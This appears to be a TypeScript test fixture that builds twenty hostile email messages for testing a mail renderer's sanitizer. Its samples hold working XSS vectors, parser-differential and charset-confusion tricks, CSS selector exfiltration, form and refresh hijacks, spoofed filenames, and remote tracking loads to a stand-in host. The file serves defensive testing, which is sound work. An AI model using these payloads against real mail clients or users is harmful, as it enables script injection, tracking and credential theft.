// Mails that attack whoever reads them: by what they run, load, submit, hide, and by where they put it. Ours, all of them.
import type { Sample } from '../messages/sample.ts';

const FAR = 'http://far.test/';
/** What every attack calls, and loads. */
const RUN = (what: string): string => `<img src=${FAR}${what}.png onerror=pwned()><script>pwned()</script>`;

/** Twenty mails, each with its name. Every one holds the word `hostile`, so that a search finds it. */
export function hostileMails(): readonly Sample[] {
  return Object.entries(MAILS).map(([name, mail], index) => ({
    name,
    folder: 'INBOX',
    bytes: Buffer.from(mail.replace(/\n/g, '\r\n'), 'latin1'),
    subject: null,
    phrase: 'hostile',
    attachments: [],
    date: null,
    internalDate: Date.UTC(2026, 0, 1 + index),
    flags: [],
  }));
}

const utf8 = (text: string): string => Buffer.from(text).toString('latin1');
const word = (text: string): string => `=?utf-8?B?${Buffer.from(text).toString('base64')}?=`;

function mail(headers: string, body: string): string {
  const has = (name: string): boolean => new RegExp(`^${name}:`, 'im').test(headers);
  return [
    has('from') ? '' : 'From: Mallory <mallory@example.org>\n',
    has('to') ? '' : 'To: someone@example.org\n',
    has('subject') ? '' : 'Subject: hostile\n',
    'Date: Thu, 01 Jan 2026 10:00:00 +0000\nMIME-Version: 1.0\n',
    `${headers.trim()}\n\n${body}`,
  ].join('');
}

const html = (body: string, headers = ''): string =>
  mail(`Content-Type: text/html; charset=utf-8\n${headers}`, utf8(body));

function multipart(kind: string, parts: readonly string[]): string {
  const body = parts.map((part) => `--part\n${part}\n`).join('');
  return mail(`Content-Type: multipart/${kind}; boundary=part`, `${body}--part--\n`);
}

const MAILS: Readonly<Record<string, string>> = {
  'scripts, handlers, frames': html(
    `<body onload=pwned()><p>hostile ${RUN('a')}<iframe src=${FAR}frame></iframe><iframe srcdoc="<script>pwned()</script>"></iframe>` +
      `<object data=${FAR}object></object><embed src=${FAR}embed><a href="java&#10;script:pwned()" autofocus onfocus=pwned()>x</a>` +
      `<details open ontoggle=pwned()>x</details><marquee onstart=pwned()>x</marquee>`,
  ),
  'trackers in every place': html(
    `<html><head><link rel=stylesheet href=${FAR}css><link rel=preconnect href=${FAR}><link rel=dns-prefetch href=http://dns.names.test/>` +
      `<link rel=prefetch href=${FAR}prefetch><style>@import "${FAR}import";@font-face{font-family:f;src:url(${FAR}font)}` +
      `body{background:url(${FAR}body);font-family:f}</style></head><body background=${FAR}background><p>hostile` +
      `<img src="${FAR}pixel.gif" width=1 height=1><img srcset="${FAR}set 1x"><picture><source srcset=${FAR}source><img></picture>` +
      `<video poster=${FAR}poster src=${FAR}video autoplay></video><audio src=${FAR}audio autoplay></audio>` +
      `<p style="background:image-set('${FAR}image-set' 1x)"><table background=${FAR}table><td background=${FAR}td>x</table>`,
  ),
  'a form, a refresh, a base': html(
    `<meta http-equiv=refresh content="0;url=${FAR}refresh"><base href=${FAR} target=_top><p>hostile` +
      `<form action=${FAR}form id=f><input name=password type=password autofocus><input type=image src=${FAR}image></form>` +
      `<button form=f formaction=${FAR}action>Sign in</button><img src=relative.png><a href=relative.html>x</a>`,
  ),
  'what parsers read in two ways': html(
    `<p>hostile<svg><style><img src="</style><img src=${FAR}svg onerror=pwned()>"></svg>` +
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=${FAR}math onerror=pwned()&gt;">` +
      `</table></math><noscript><p title="</noscript><img src=${FAR}noscript onerror=pwned()>"></noscript>` +
      `<form><math><mtext></form><form><mglyph><style></math><img src=${FAR}form onerror=pwned()>` +
      `<svg><image href=${FAR}image /><use href=${FAR}use.svg#x /></svg><xmp><p title="</xmp><img src=${FAR}xmp onerror=pwned()>">`,
  ),
  'HTML in its headers': mail(
    [
      'Content-Type: text/plain; charset=utf-8',
      `From: "<img src=${FAR}from onerror=pwned()>" <mallory@example.org>`,
      `To: ${word(`</dd><script>pwned()</script>${RUN('to')}`)} <"><script>pwned()</script>"@example.org>`,
      `Cc: ${word('\u202egro.elpmaxe@knab\u202c')} <cc@example.org>, ${word('ban\u200bk@example.org')} <x@example.net>`,
      `Subject: hostile ${word(`</title></h1>${RUN('subject')}<mark>`)}`,
      `Message-ID: <"><img src=${FAR}id onerror=pwned()>@example.org>`,
      `References: <"><img/src=${FAR}ref>@example.org>`,
    ].join('\n'),
    'hostile\n',
  ),
  'HTML in its file names': multipart('mixed', [
    'Content-Type: text/plain\n\nhostile',
    `Content-Type: text/html; name="x"\nContent-Disposition: attachment; filename*=utf-8''${encodeURIComponent(`"><img src=${FAR}name onerror=pwned()>.html`)}\n\n${RUN('file')}`,
    `Content-Type: image/svg+xml\nContent-Disposition: inline; filename*=utf-8''invoice%E2%80%AEgnp.svg\n\n<svg xmlns="http://www.w3.org/2000/svg" onload="pwned()"><image href="${FAR}inline"/></svg>`,
    `Content-Type: text/html"><script>pwned()</script>\nContent-Disposition: attachment; filename="a\\"\n\n.html"\n\n${RUN('type')}`,
  ]),
  'UTF-7': mail(
    'Content-Type: text/html; charset=utf-7',
    `<p>hostile +ADw-script+AD4-pwned()+ADw-/script+AD4APA-img src=+ACI-${FAR}utf7+ACI- onerror=pwned()+AD4-`,
  ),
  'escapes of ISO-2022-JP, octets that are no UTF-8, NUL': mail(
    'Content-Type: text/html; charset=iso-2022-jp',
    `<p>hostile <p title="\x1b$B"><img src=${FAR}jis onerror=pwned()>\x1b(B"> \xc0\xbcscript\xc0\xbepwned()\xc0\xbc/script\xc0\xbe` +
      `<scr\0ipt>pwned()</scr\0ipt><img src=${FAR}nul on\0error=pwned()> \xff\xfe<\0s\0c\0r\0i\0p\0t\0>\0 <img \x0bsrc=${FAR}vt onerror=pwned()>`,
  ),
  'plain text that looks like a page': mail(
    'Content-Type: text/plain; charset=utf-8',
    utf8(
      `hostile </pre></mark>${RUN('text')} <mark>hostile</mark> javascript:pwned() <a href="javascript:pwned()">x</a> ` +
        `https://example.org/"onmouseover="pwned() http://far.test/'><img/src=${FAR}link> \u202egpj.exe`,
    ),
  ),
  'a mail in a mail, and pictures that are none': multipart('related', [
    `Content-Type: text/html; charset=utf-8\n\n<p>hostile <img src=cid:drawing@x><img src="cid:page@x"><img src=cid:far@x>` +
      `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='pwned()'/>"><iframe src=cid:page@x></iframe>`,
    `Content-Type: image/png\nContent-ID: <drawing@x>\n\n<svg xmlns="http://www.w3.org/2000/svg" onload="pwned()"/>`,
    `Content-Type: text/html\nContent-ID: <page@x>\n\n${RUN('page')}`,
    `Content-Type: message/external-body; access-type=URL; URL="${FAR}external"\nContent-ID: <far@x>\n\nContent-Type: image/png\n\n`,
    `Content-Type: message/rfc822\n\nFrom: x@example.org\nSubject: ${RUN('inner')}\nContent-Type: text/html\n\n${RUN('nested')}`,
  ]),
  'CSS that asks by what stands in the page': html(
    `<style>@import url(${FAR}import.css);@import "${FAR}late.css" layer(x) supports(display:block);` +
      `input[name=csrf][value^=a]{background:url(${FAR}css-a)}a[href*=message]{background-image:url(${FAR}css-href)}` +
      `:has(#q){background:url(${FAR}has)}p::before{content:url(${FAR}before)}body:hover{cursor:url(${FAR}cursor),auto}` +
      `@font-face{font-family:probe;src:url(${FAR}font);unicode-range:U+68}p{font-family:probe}` +
      `@container style(--x:1){p{background:url(${FAR}container)}}p{background:if(media(width>1px):url(${FAR}if);else:none)}` +
      `p{background:attr(data-u type(<url>))}</style><p data-u="${FAR}attr">hostile <input name=csrf value=abc><a href="/message/1">x</a>`,
  ),
  'SVG, its uses and foreign objects': html(
    `<p>hostile<svg xmlns="http://www.w3.org/2000/svg"><use href="${FAR}use.svg#x"/><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='${FAR}used'/></svg>#x"/>` +
      `<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="${FAR}foreign"></iframe>${RUN('fo')}</body></foreignObject>` +
      `<image href="${FAR}image"/><feImage href="${FAR}fe"/><a href="javascript:pwned()"><text>x</text></a><animate attributeName=href to="${FAR}animate" begin=0s onbegin=pwned() />` +
      `<style>@import "${FAR}svg-import";rect{fill:url(${FAR}fill#x)}</style><rect width=9 height=9 /></svg><img src="data:image/svg+xml;utf8,<svg xmlns='http://www.w3.org/2000/svg'><image href='${FAR}nested'/></svg>">`,
  ),
  'MathML that leads out': html(
    `<p>hostile<math href="${FAR}math"><mtext href="javascript:pwned()">x</mtext><maction actiontype="statusline" xlink:href="${FAR}maction">x</maction>` +
      `<annotation-xml encoding="text/html">${RUN('annotation')}</annotation-xml><mglyph src="${FAR}glyph"/><ms style="background:url(${FAR}ms)">x</ms>` +
      `<semantics><annotation-xml encoding="application/xhtml+xml"><iframe srcdoc="<script>pwned()</script>"></iframe></annotation-xml></semantics></math>`,
  ),
  'what a browser fetches ahead': html(
    `<head><meta http-equiv=x-dns-prefetch-control content=on><link rel=dns-prefetch href=//ahead.names.test><link rel=preconnect href=//ahead2.names.test crossorigin>` +
      `<link rel="preload prefetch" as=image imagesrcset="${FAR}set 1x" href="${FAR}preload"><link rel=prerender href="${FAR}prerender"><link rel=modulepreload href="${FAR}module">` +
      `<link rel=icon href="${FAR}icon"><link rel=expect blocking=render href=#x><script type=speculationrules>{"prerender":[{"urls":["${FAR}rules"]}]}</script>` +
      `<meta http-equiv=Link content="<${FAR}link>;rel=preload;as=image"></head><p>hostile <a href="http://link.names.test/">x</a>`,
  ),
  'a refresh, a base, and who is on top': html(
    `<base href="${FAR}" target="_top"><meta http-equiv="refresh" content="0; url=data:text/html,<script>pwned()</script>"><meta http-equiv=refresh content="1;${FAR}again">` +
      `<script>window.name='pwned';top.location='${FAR}top'</script><p>hostile <a target=_top href=/logout autofocus>x</a><a target=_parent href="${FAR}parent">x</a>` +
      `<a href="${FAR}ping-to" ping="${FAR}ping">x</a><iframe name=top src="${FAR}named"></iframe><map name=m><area href="javascript:pwned()" target=_self></map><img usemap=#m>`,
  ),
  'forms, focus and buttons that act by themselves': html(
    `<p>hostile<form id=f action="/logout" method=post target=_top><input name=csrf value=x autofocus onfocus=pwned()><input type=submit formaction="${FAR}submit"></form>` +
      `<form action="${FAR}get"><input name=q autofocus onfocus="this.form.submit()"><button type=submit autofocus>x</button></form><input type=image src="${FAR}input" form=f>` +
      `<select autofocus onfocus=pwned()><option>x</select><textarea autofocus onfocus=pwned()></textarea><div contenteditable autofocus onfocus=pwned()>x</div>` +
      `<button popovertarget=help>x</button><button commandfor=help command=show-popover>x</button><dialog open onclose=pwned()><form method=dialog><button autofocus>x</button></form></dialog>`,
  ),
  'pictures in many sets': html(
    `<p>hostile<img srcset="${FAR}a 1x, ${FAR}b 2x" sizes=100vw><picture><source srcset="${FAR}c" media="(min-width:1px)"><source type=image/webp srcset="${FAR}d"><img src="${FAR}e" loading=lazy></picture>` +
      `<img src="//far.test/f"><img src="\\\\far.test\\g"><img src="ht&#10;tp://far.test/h"><img lowsrc="${FAR}i" dynsrc="${FAR}j" longdesc="${FAR}k"><input type=image srcset="${FAR}l">` +
      `<video><track default src="${FAR}m"><source src="${FAR}n"></video><body background="${FAR}o"><table background=" ${FAR}p"><img src="blob:${FAR}q"><img src="filesystem:${FAR}r">`,
  ),
  'parts that name each other': multipart('related', [
    `Content-Type: text/html; charset=utf-8\n\n<p>hostile <img src="cid:svg@x"><img src="cid:%2e%2e/status"><img src="cid:none@x" onerror=pwned()><link rel=stylesheet href="cid:css@x"><iframe src="cid:html@x"></iframe>` +
      `<img src="cid:far@x"><img src="CID:HTML@X"><object data="cid:svg@x"></object><style>@import "cid:css@x";p{background:url(cid:svg@x)}</style><a href="cid:html@x" target=_top>x</a>`,
    `Content-Type: image/png\nContent-ID: <svg@x>\nContent-Location: ${FAR}location\n\n\x89PNG\n<svg xmlns="http://www.w3.org/2000/svg" onload="pwned()"><image href="${FAR}png"/></svg>`,
    `Content-Type: text/css\nContent-ID: <css@x>\n\n@import "${FAR}css";*{background:url(${FAR}part)}`,
    `Content-Type: text/html\nContent-ID: <html@x>\nContent-Base: ${FAR}\n\n${RUN('cid')}`,
    `Content-Type: message/external-body; access-type=URL; URL="${FAR}ext"\nContent-ID: <far@x>\n\nContent-Type: image/png\n\n`,
  ]),
  'addresses that are pages': html(
    `<p>hostile <a href="data:text/html,<script>pwned()</script>" autofocus>x</a><iframe src="data:text/html,${encodeURIComponent(RUN('data'))}"></iframe>` +
      `<a href="blob:null/0" target=_blank>x</a><object data="data:text/html;base64,${Buffer.from(RUN('object')).toString('base64')}"></object><embed src="data:image/svg+xml,<svg onload='pwned()' xmlns='http://www.w3.org/2000/svg'/>">` +
      `<img src="data:text/html,<script>pwned()</script>"><img src="data:image/png,<svg xmlns='http://www.w3.org/2000/svg' onload='pwned()'/>"><a href="view-source:${FAR}">x</a><a href="intent://far.test#Intent;scheme=http;end">x</a>`,
  ),
  'a charset that changes its mind, and shadows': multipart('alternative', [
    `Content-Type: text/plain; charset=utf-7\n\nhostile +ADw-script+AD4-pwned()+ADw-/script+AD4-`,
    `Content-Type: text/html; charset="utf-16be\n\n\xfe\xff\0<\0s\0c\0r\0i\0p\0t\0>\0p\0w\0n\0e\0d\0(\0)\0<\0/\0s\0c\0r\0i\0p\0t\0>`,
    `Content-Type: text/html; charset=x-user-defined; charset=utf-7\n\n<meta charset=utf-7><meta http-equiv=content-type content="text/html;charset=hz-gb-2312">hostile +ADw-img src=${FAR}seven onerror=pwned()+AD4- ~{<script>pwned()</script>~}` +
      `<div><template shadowrootmode=open shadowrootclonable><style>@import "${FAR}shadow";:host{background:url(${FAR}host)}</style>${RUN('shadow')}<slot></slot></template></div><template>${RUN('template')}</template>` +
      `<x-y is=x-y onattributechanged=pwned()><slot name=x></slot></x-y>\x1b$B<img src=${FAR}jis>\x1b(B\x1b%/1\x8a<script>pwned()</script>`,
  ]),
};
